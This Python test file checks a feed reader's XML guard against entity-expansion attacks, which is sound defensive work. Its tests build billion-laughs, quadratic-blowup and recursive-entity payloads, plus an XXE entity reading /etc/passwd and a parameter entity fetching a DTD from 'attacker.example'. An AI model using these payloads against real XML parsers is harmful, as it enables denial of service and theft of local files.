"""The DTD guard: entity bombs are refused in milliseconds, small entities still work."""

from __future__ import annotations

import resource
import time

import pytest

from wirereader.feeds import parse_feed
from wirereader.feeds.guard import ExpensiveFeedError, defuse

ITEM = "<item><title>{title}</title><guid>g</guid><description>{body}</description></item>"


def feed(subset: str, title: str = "Story", body: str = "Text", encoding: str = "utf-8") -> bytes:
    """An RSS document whose DOCTYPE has `subset` as its internal subset."""
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>\n<!DOCTYPE rss [\n{subset}\n]>\n'
        f'<rss version="2.0"><channel><title>Wire</title>{ITEM.format(title=title, body=body)}'
        "</channel></rss>"
    ).encode(encoding)


def quadratic(size: int = 50_000, refs: int = 18_000) -> bytes:
    """One big entity referenced many times: ~100 KB that feedparser's loose parser would
    expand to ~900 MB."""
    return feed(f'<!ENTITY a "{"x" * size}">', body="&a;" * refs)


def peak_rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def test_the_quadratic_entity_feed_fails_fast_without_memory() -> None:
    before, start = peak_rss_mb(), time.monotonic()
    parsed = parse_feed(quadratic())
    assert time.monotonic() - start < 1.0
    assert peak_rss_mb() - before < 50
    assert parsed.error == "feed too expensive to parse: its entities expand to over 900 MB"
    assert not parsed.articles


def test_billion_laughs_and_recursive_entities_are_refused() -> None:
    laughs = ['<!ENTITY l0 "ha">'] + [
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    ]
    with pytest.raises(ExpensiveFeedError, match="too expensive to parse"):
        defuse(feed("\n".join(laughs), body="&l9;"))
    with pytest.raises(ExpensiveFeedError, match="'a' refers to itself"):
        defuse(feed('<!ENTITY a "x&b;">\n<!ENTITY b "&a;">', body="&a;"))


def test_a_bomb_in_utf16_is_refused_too() -> None:
    with pytest.raises(ExpensiveFeedError):
        defuse(quadratic().decode().replace("utf-8", "utf-16").encode("utf-16"))


def test_small_entities_still_expand() -> None:
    parsed = parse_feed(feed('<!ENTITY co "Wire and Co">', title="News from &co;"))
    assert parsed.error is None
    assert parsed.articles[0].title == "News from Wire and Co"


def test_external_and_parameter_entities_and_attribute_defaults_are_removed() -> None:
    subset = (
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
        '<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">\n%remote;\n'
        '<!ATTLIST item secret CDATA "&xxe;">'
    )
    defused = defuse(feed(subset, title="&xxe;"))
    assert b"passwd" not in defused and b"attacker" not in defused
    assert b"ATTLIST" not in defused
    assert "root:" not in parse_feed(defused).articles[0].title


def test_an_unterminated_declaration_is_made_inert() -> None:
    assert b"<!ENTITY" not in defuse(b'<!DOCTYPE rss [<!ENTITY a "never closed')


def test_documents_without_declarations_are_returned_as_they_are() -> None:
    plain = feed("", body="<![CDATA[an article about <!ENTITY tricks>]]>")
    assert defuse(plain) == plain
    cdata_after_root = b'<rss><channel><title><![CDATA[<!ENTITY a "b">]]></title></channel></rss>'
    assert defuse(cdata_after_root) is cdata_after_root
